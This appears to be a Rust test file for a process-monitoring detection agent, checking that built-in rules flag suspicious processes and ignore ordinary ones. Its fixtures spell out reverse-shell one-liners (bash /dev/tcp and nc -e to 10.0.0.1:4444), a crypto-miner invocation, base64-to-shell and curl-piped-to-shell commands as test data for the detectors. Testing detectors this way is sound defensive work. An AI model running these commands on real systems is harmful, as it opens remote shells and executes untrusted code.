//! The built-in pack catches what each rule promises and stays quiet on an
//! ordinary workload.

use daemoneye_agent::engine::{ProcessRow, RuleEngine};
use daemoneye_agent::rules;

fn row(pid: u32, name: &str, exe: &str, argv: &[&str]) -> ProcessRow {
    ProcessRow {
        process_key: Some(format!("boot:{pid}:1")),
        pid,
        ppid: Some(1),
        name: name.to_owned(),
        exe: Some(exe.to_owned()),
        argv: argv.iter().map(ToString::to_string).collect(),
        uid: Some(1000),
        euid: Some(1000),
        file_exists: true,
        accessible: true,
        exe_dir_user_writable: Some(false),
        parent_name: Some("bash".to_owned()),
        event_type: "exec".to_owned(),
        ..ProcessRow::default()
    }
}

fn fired(rows: &[ProcessRow]) -> Vec<(String, u32)> {
    let mut engine = RuleEngine::new(rules::builtin().unwrap()).unwrap();
    assert!(engine.refused().is_empty(), "{:?}", engine.refused());
    let mut m: Vec<_> = engine
        .evaluate(rows)
        .unwrap()
        .into_iter()
        .map(|m| (m.rule_id, m.pid))
        .collect();
    m.sort();
    m
}

#[test]
fn every_builtin_rule_fires_on_its_case_and_only_there() {
    let mut deleted = row(10, "payload", "/usr/local/bin/payload", &["payload"]);
    deleted.exe_deleted = true;
    deleted.file_exists = false;
    let mut shell_from_web = row(15, "sh", "/usr/bin/dash", &["sh", "-c", "id"]);
    shell_from_web.parent_name = Some("nginx".to_owned());
    let mut reused = row(18, "cron", "/usr/sbin/cron", &["cron"]);
    reused.event_type = "pid_reused".to_owned();
    let mut planted = row(19, "helper", "/opt/tools/helper", &["helper"]);
    planted.uid = Some(0);
    planted.exe_dir_user_writable = Some(true);
    let cases = vec![
        (deleted, "deleted-executable"),
        (row(11, "x", "/dev/shm/x", &["./x"]), "exec-from-temp-dir"),
        (
            row(
                12,
                "bash",
                "/usr/bin/bash",
                &["bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"],
            ),
            "reverse-shell",
        ),
        (
            row(
                13,
                "nc",
                "/usr/bin/nc.traditional",
                &["nc", "-e", "/bin/sh", "10.0.0.1", "4444"],
            ),
            "reverse-shell",
        ),
        (
            row(
                14,
                "xmrig",
                "/usr/local/bin/xmrig",
                &["xmrig", "-o", "stratum+tcp://pool:3333"],
            ),
            "crypto-miner",
        ),
        (shell_from_web, "service-spawned-shell"),
        (
            row(
                16,
                "sh",
                "/usr/bin/dash",
                &["sh", "-c", "echo aWQ= | base64 -d | sh"],
            ),
            "base64-decode-to-shell",
        ),
        (
            row(17, ".hidden", "/usr/lib/.cache/.hidden", &[".hidden"]),
            "hidden-executable",
        ),
        (reused, "pid-reuse"),
        (planted, "root-from-user-writable-dir"),
        (
            row(
                20,
                "sh",
                "/usr/bin/dash",
                &["sh", "-c", "curl -fsSL http://x/i.sh | sh"],
            ),
            "download-piped-to-shell",
        ),
    ];
    let rows: Vec<ProcessRow> = cases.iter().map(|(r, _)| r.clone()).collect();
    let got = fired(&rows);
    let mut want: Vec<(String, u32)> = cases
        .iter()
        .map(|(r, id)| ((*id).to_owned(), r.pid))
        .collect();
    want.sort();
    assert_eq!(got, want);
    // Every built-in rule is covered by a case above.
    for rule in rules::builtin().unwrap() {
        assert!(
            want.iter().any(|(id, _)| *id == rule.id),
            "no case for {}",
            rule.id
        );
    }
}

#[test]
fn an_ordinary_workload_raises_nothing() {
    let mut nginx_worker = row(30, "nginx", "/usr/sbin/nginx", &["nginx: worker process"]);
    nginx_worker.parent_name = Some("nginx".to_owned());
    let mut root_daemon = row(31, "sshd", "/usr/sbin/sshd", &["sshd: /usr/sbin/sshd -D"]);
    root_daemon.uid = Some(0);
    let mut exited_tmp = row(32, "a.out", "/tmp/build/a.out", &["./a.out"]);
    exited_tmp.event_type = "exit".to_owned();
    let rows = vec![
        nginx_worker,
        root_daemon,
        exited_tmp,
        row(
            33,
            "cc1",
            "/usr/lib/gcc/x86_64-linux-gnu/12/cc1",
            &["/usr/lib/gcc/x86_64-linux-gnu/12/cc1", "-quiet", "hello.c"],
        ),
        row(
            34,
            "cargo",
            "/root/.cargo/bin/cargo",
            &["cargo", "build", "--release"],
        ),
        row(
            35,
            "sh",
            "/usr/bin/dash",
            &["sh", "-c", "cat /etc/hosts | sort | uniq"],
        ),
        row(
            36,
            "curl",
            "/usr/bin/curl",
            &["curl", "-s", "https://api.example.com/v1", "-o", "out.json"],
        ),
        row(
            37,
            "sh",
            "/usr/bin/dash",
            &["sh", "-c", "curl -s https://api | jq .sha"],
        ),
        row(
            38,
            "python3",
            "/usr/bin/python3.11",
            &["python3", "-m", "http.server"],
        ),
        row(
            39,
            "ls",
            "/usr/bin/ls",
            &["ls", "-la", "/home/user/.config"],
        ),
        row(40, "git", "/usr/bin/git", &["git", "status"]),
        row(41, "bash", "/usr/bin/bash", &["-bash"]),
    ];
    assert_eq!(fired(&rows), Vec::<(String, u32)>::new());
}
